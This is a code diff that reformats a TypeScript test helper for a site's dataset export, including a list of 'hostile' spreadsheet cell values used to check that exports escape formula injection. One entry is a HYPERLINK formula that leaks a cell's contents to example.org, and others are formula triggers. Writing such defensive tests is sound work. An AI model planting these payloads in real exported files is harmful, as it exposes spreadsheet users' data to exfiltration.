@@ -9,15 +9,33 @@ import { graphOf, realDir } from '../domain/results/content.ts';
 import { yamlEntries } from '../helpers/content.ts';
 
 export function realSite(): ContentIndex {
-  return indexContent({ ...graphOf(realDir), councilMeetings: yamlEntries(realDir, 'council-meetings', councilMeetingSchema) });
+  return indexContent({
+    ...graphOf(realDir),
+    councilMeetings: yamlEntries(realDir, 'council-meetings', councilMeetingSchema),
+  });
 }
 
 export function datasetRowsOf(site: ContentIndex): Array<{ id: DatasetId; rows: object[] }> {
-  return datasets.map(({ id }) => ({ id, rows: z.array(rowSchemas[id]).parse(rowsOf(id, site, '2025-06-01')) }));
+  return datasets.map(({ id }) => ({
+    id,
+    rows: z.array(rowSchemas[id]).parse(rowsOf(id, site, '2025-06-01')),
+  }));
 }
 
 /** Cells a spreadsheet would run or mangle, written by people (a survey proposal) or found in content/ («- о …»). */
 export const hostile = [
-  '=HYPERLINK("http://example.org/?leak="&A1,"Подробнее")', '=1+1', '+7 (495) 000-00-00', '-о реализации планов', '- о перечне организаций',
-  '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "'=1+1", "'цитата'", 'a=b', 'Строка с "кавычками",\r\nи переносом', '-3', '-0.5',
+  '=HYPERLINK("http://example.org/?leak="&A1,"Подробнее")',
+  '=1+1',
+  '+7 (495) 000-00-00',
+  '-о реализации планов',
+  '- о перечне организаций',
+  '@SUM(A1:A2)',
+  '\t=1+1',
+  '\r=1+1',
+  "'=1+1",
+  "'цитата'",
+  'a=b',
+  'Строка с "кавычками",\r\nи переносом',
+  '-3',
+  '-0.5',
 ];
